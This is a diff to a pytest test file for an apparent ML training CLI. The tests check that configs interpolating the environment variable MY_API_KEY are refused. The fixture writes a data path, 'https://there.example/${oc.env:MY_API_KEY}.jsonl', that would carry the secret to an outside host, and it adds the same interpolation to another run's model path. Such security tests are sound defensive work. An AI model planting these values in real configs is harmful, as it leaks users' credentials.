@@ -125,7 +125,8 @@ REFUSED = {
         ["train", "+experiment=env", "model.path=x", "--cfg", "job", "--resolve"],
         "data.path holds the value of MY_API_KEY",
     ),
-    "another's run": (["eval", "run=theirs"], "data.eval holds the value of MY_API_KEY"),
+    # What it says of the environment is text.
+    "another's run": (["eval", "run=theirs"], "${oc.env:MY_API_KEY}"),
 }
 
 
@@ -139,6 +140,7 @@ def refused(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Outcome]:
     stolen = "https://there.example/${oc.env:MY_API_KEY}.jsonl"
     (experiments / "env.yaml").write_text(f"# @package _global_\ndata: {{path: '{stolen}'}}\n")
     theirs = config(eval={"samples": 0}, launch={"name": "local", "num_processes": 1})
+    theirs["model"] |= {"path": "${oc.env:MY_API_KEY}"}
     theirs["data"] |= {"path": "y", "eval": stolen}
     theirs["train"] |= {"precision": "fp32", "tokens_per_micro_batch": 64}
     (root / "theirs").mkdir()
